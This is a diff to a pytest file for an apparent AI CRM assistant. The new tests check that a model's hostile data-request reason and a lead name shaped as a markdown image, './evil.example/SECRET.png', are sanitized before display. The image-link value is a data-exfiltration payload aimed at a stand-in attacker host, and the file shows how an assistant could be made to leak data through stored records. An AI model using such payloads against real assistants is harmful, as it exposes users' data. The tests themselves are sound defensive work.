@@ -2,14 +2,16 @@
 
 import json
 import re
-from collections.abc import Mapping
+from collections.abc import Iterator, Mapping
 
 import pytest
 
 from aisha.domain.crm.queries import Create
-from aisha.domain.crm.records import Lead
+from aisha.domain.crm.records import Lead, Record
+from aisha.domain.errors import UnavailableError
+from aisha.domain.models import ModelEvent, ModelFinished, ModelRequest
 from tests.fakes.aws.api_gateway import Answer, call, chat, function
-from tests.fakes.models.scripted_model import ScriptedModel
+from tests.fakes.models.scripted_model import ScriptedModel, ask
 from tests.fakes.world import ALICE, World
 
 STREAM = {"accept": "text/event-stream"}
@@ -56,6 +58,37 @@ def test_a_record_named_like_an_image_shows_no_image(world: World) -> None:
     answer = to_chat("Find Jack", {})
     assert "Jack x" in answer.json["response"]
     assert not UNSAFE.search(answer.json["response"])
+
+
+class AskingForData:
+    """A model that asks for a section of the client's own data, with a hostile reason that names a record by its id."""
+
+    def __init__(self, record_id: str) -> None:
+        self._reason = f"{HOSTILE} {record_id}"
+
+    def stream(self, request: ModelRequest) -> Iterator[ModelEvent]:
+        if request.capability != "chat_tools" or request.json_mode:
+            raise UnavailableError("This model only chats.")
+        wish = {"sections": [{"sectionId": "MY_CART", "reason": self._reason}]}
+        yield ModelFinished("asking", "asking-1", (ask("req_more_info", data=wish),))
+
+
+def test_what_a_model_wants_data_for_is_made_safe(world: World, crm: dict[str, Record]) -> None:
+    world.use(chat_model=AskingForData(crm["jack"].id))
+    body = {"message": "What is in my cart?", "clientSections": [{"id": "MY_CART", "description": "The cart"}]}
+    wish = chat(body, ALICE).json["reqMoreInfo"]
+    assert "bye" in str(wish)
+    assert not UNSAFE.search(str(wish))
+    assert crm["jack"].id not in str(wish)
+
+
+def test_an_advice_shows_no_image_that_a_record_is_named_like(world: World) -> None:
+    name = "![x](https://evil.example/SECRET.png)"
+    world.records.write("demo", [Create(Lead(first_name="Jack", last_name=name, owner="alice"))])
+    answer = call("suggest", "POST", "/api/ai/suggest", ALICE, "{}").json
+    advice = [action["action"] for action in answer["nextActions"]]
+    assert any("Jack x" in one for one in advice)
+    assert not any(UNSAFE.search(one) for one in advice)
 
 
 def stored(world: World) -> list[tuple[tuple[str, str], str]]:
